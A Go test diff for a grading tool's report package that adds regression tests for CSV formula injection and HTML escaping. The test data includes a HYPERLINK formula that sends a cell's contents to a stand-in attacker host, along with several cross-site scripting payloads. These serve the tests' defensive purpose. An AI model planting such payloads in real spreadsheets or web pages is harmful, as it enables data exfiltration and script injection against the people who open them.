@@ -1,6 +1,8 @@
 package report
 
 import (
+	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -38,5 +40,69 @@ func TestSummarize(t *testing.T) {
 	}
 	if len(e.CommonFailures) != 1 || e.CommonFailures[0].Count != 2 || !strings.Contains(e.CommonFailures[0].Message, "histogram.go:N") {
 		t.Errorf("common failures %+v: the two races differ only in line numbers and should count as one", e.CommonFailures)
+	}
+}
+
+// TestGradesCSVNeutralisesFormulas: a student folder named
+// =HYPERLINK(...) became a live formula in grades.csv. Every cell that a
+// spreadsheet would run (OWASP's list: = + - @ tab CR LF, and NUL) starts
+// with a single quote; the rest of the text is kept, and commas and
+// quotes stay inside their cell.
+func TestGradesCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	spec, _ := exercise.Lookup("histogram")
+	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\x00=1", `plain, "quoted"`, "alice"}
+	book := Gradebook{Exercises: []exercise.Spec{spec}}
+	for _, n := range names {
+		book.Students = append(book.Students, Student{Name: n, Note: n})
+	}
+	rows, err := csv.NewReader(bytes.NewReader(GradesCSV(book))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(names)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(names)+1)
+	}
+	for i, n := range names {
+		row := rows[i+1]
+		want := n
+		if strings.ContainsRune("=+-@\t\r\n\x00", rune(n[0])) {
+			want = "'" + n
+		}
+		want = strings.ReplaceAll(want, "\r", "") // encoding/csv reads \r\n and \r inside a cell as \n
+		for _, col := range []int{0, len(row) - 1} {
+			if got := strings.ReplaceAll(row[col], "\r", ""); got != want && got != strings.ReplaceAll(want, "\n", "") {
+				t.Errorf("cell %q, want %q", row[col], want)
+			}
+		}
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(cell[0])) {
+				t.Errorf("the cell %q would be a formula", cell)
+			}
+		}
+	}
+}
+
+// TestHTMLEscapesNames: names, notes and failure messages in report.html
+// are text, never markup or a script link.
+func TestHTMLEscapesNames(t *testing.T) {
+	t.Parallel()
+	spec, _ := exercise.Lookup("histogram")
+	res := &verdict.Result{Exercise: "histogram", MaxScore: 11, Checks: []verdict.Check{{Name: verdict.Builds, Status: verdict.Fail, Message: `<img src=x onerror=alert(2)>`}}}
+	book := Gradebook{Exercises: []exercise.Spec{spec}, Students: []Student{{
+		Name: `<script>alert(1)</script>" onmouseover="alert(3)`, File: "javascript:alert(4)",
+		Note: "</td><iframe src=//evil>", Results: map[string]*verdict.Result{"histogram": res}}}}
+	var b bytes.Buffer
+	if err := HTML(&b, book); err != nil {
+		t.Fatal(err)
+	}
+	page := b.String()
+	for _, bad := range []string{"<script>alert", "<img", "<iframe", `" onmouseover="`, `href="javascript:`} {
+		if strings.Contains(page, bad) {
+			t.Errorf("report.html holds %q unescaped", bad)
+		}
+	}
+	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
+		t.Error("the student's name is not shown as text")
 	}
 }
